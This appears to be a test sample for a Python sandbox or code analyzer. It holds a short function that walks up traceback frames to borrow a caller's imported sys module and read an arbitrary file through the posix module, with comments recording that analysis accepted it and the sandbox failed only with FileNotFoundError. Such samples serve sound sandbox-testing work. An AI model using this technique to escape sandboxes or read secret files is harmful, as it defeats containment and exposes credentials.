# trick: goes up the frames to whoever called it, and uses what is imported there
# wants: file
# analysis: accepted
# sandbox: FileNotFoundError
def trick(secret: str) -> str:
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        found = frame.f_globals.get("sys")
        if found is not None:
            return found.modules["posix"].read(found.modules["posix"].open(secret, 0), 1000).decode()
        frame = frame.f_back
    return "nobody above has it"
